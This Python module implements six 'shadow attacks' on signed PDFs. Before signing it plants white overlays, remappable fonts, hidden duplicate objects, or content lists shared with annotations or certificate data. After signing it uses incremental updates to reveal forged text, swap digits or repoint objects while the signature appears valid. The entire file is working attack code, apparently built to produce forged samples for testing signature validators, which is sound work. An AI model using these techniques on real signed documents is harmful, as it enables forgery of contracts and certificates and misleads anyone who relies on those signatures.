"""Shadow attacks: a document is prepared before it is signed, and changed by little later on."""

import re
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name

from .attacks import FORGED, Numbers
from .raw_update import FIRST_NEW, compress, find_body, update


@dataclass(frozen=True, slots=True, kw_only=True)
class Shadow:
    prepare: Callable[[bytes], bytes]
    attack: Callable[[bytes, Numbers], bytes]


def _edited(unsigned: bytes, edit: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.open(BytesIO(unsigned)) as pdf:
        edit(pdf)
        stream = BytesIO()
        pdf.save(stream, static_id=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return stream.getvalue()


def _overlay(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[-1].obj
    cover = pdf.make_stream(b"1 g 0 0 595 842 re f", Type=Name.XObject, Subtype=Name.Form)
    cover.BBox = Array([0, 0, 595, 842])
    page.Resources.XObject = Dictionary(Cover=cover)
    page.Contents = pdf.make_stream(b"/Cover Do")


def _number_of_cover(signed: bytes) -> int:
    return int(re.findall(rb"/Cover (\d+) 0 R", signed)[-1])


def hide(signed: bytes, at: Numbers) -> bytes:
    """The cover is emptied, and what it hid shows."""
    del at
    return update(signed, {_number_of_cover(signed): compress(FORGED, b"/Subtype /Form")})


def hide_by_freeing(signed: bytes, at: Numbers) -> bytes:
    """The cover is declared free, without a new object."""
    del at
    table = update(signed, {}, at={_number_of_cover(signed): 0})
    return re.sub(rb"0000000000 00000 n \n(?=trailer)", b"0000000000 00001 f \n", table)


def _own_font(pdf: pikepdf.Pdf) -> None:
    font = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name.Helvetica,
            Encoding=Dictionary(Type=Name.Encoding, Differences=Array([48, Name.zero])),
        )
    )
    pdf.pages[-1].obj.Resources.Font.F1 = font


def replace(signed: bytes, at: Numbers) -> bytes:
    """The font draws other digits."""
    page = find_body(signed, at.last_page)
    number = int(re.findall(rb"/F1 (\d+) 0 R", page)[0])
    return update(signed, {number: find_body(signed, number).replace(b"/zero", b"/nine")})


def _two_catalogs(unsigned: bytes) -> bytes:
    text = _number_of_text(unsigned)
    shadow = b"%d 0 obj\n%b\nendobj\n" % (text, compress(FORGED))
    return update(unsigned, {FIRST_NEW + 30: b"null"}, between=shadow)


def _number_of_text(data: bytes) -> int:
    with pikepdf.open(BytesIO(data)) as pdf:
        return pdf.pages[-1].obj.Contents.objgen[0]


def hide_and_replace(signed: bytes, at: Numbers) -> bytes:
    """A table alone makes the hidden object the one that counts."""
    place = signed.rindex(b"\n%d 0 obj\n" % at.contents) + 1
    return update(signed, {}, at={at.contents: place})


def _shared_list(pdf: pikepdf.Pdf) -> None:
    """Let the annotations of a page and the text of another be one list."""
    shown = pdf.make_indirect(Array([pdf.pages[-1].obj.Contents]))
    pdf.pages[-1].obj.Contents = shown
    pdf.pages[-1].obj.Annots = shown


def change_the_shared_list(signed: bytes, at: Numbers) -> bytes:
    """The page gets a new list of annotations; the old list, which draws it, is changed."""
    page = find_body(signed, at.last_page)
    number = int(re.findall(rb"/Annots (\d+) 0 R", page)[0])
    own = re.sub(rb"/Annots \d+ 0 R", b"/Annots " + find_body(signed, number), page)
    return update(
        signed,
        {at.last_page: own, number: b"[%d 0 R]" % FIRST_NEW, FIRST_NEW: compress(FORGED)},
    )


def _text_as_validation_data(pdf: pikepdf.Pdf) -> None:
    shown = pdf.make_indirect(Array([pdf.pages[-1].obj.Contents]))
    pdf.pages[-1].obj.Contents = shown
    pdf.Root.DSS = Dictionary(Certs=shown)


def change_validation_data(signed: bytes, at: Numbers) -> bytes:
    """The list that draws a page is named as one of certificates, which may grow."""
    page = find_body(signed, at.last_page)
    number = int(re.findall(rb"/Contents (\d+) 0 R", page)[0])
    return update(signed, {number: b"[%d 0 R]" % FIRST_NEW, FIRST_NEW: compress(FORGED)})


def _with(edit: Callable[[pikepdf.Pdf], None]) -> Callable[[bytes], bytes]:
    return lambda unsigned: _edited(unsigned, edit)


SHADOWS: dict[str, Shadow] = {
    "shadow-hide": Shadow(prepare=_with(_overlay), attack=hide),
    "shadow-hide-by-freeing": Shadow(prepare=_with(_overlay), attack=hide_by_freeing),
    "shadow-replace": Shadow(prepare=_with(_own_font), attack=replace),
    "shadow-hide-and-replace": Shadow(prepare=_two_catalogs, attack=hide_and_replace),
    "shadow-shared-list": Shadow(prepare=_with(_shared_list), attack=change_the_shared_list),
    "shadow-validation-data": Shadow(
        prepare=_with(_text_as_validation_data), attack=change_validation_data
    ),
}
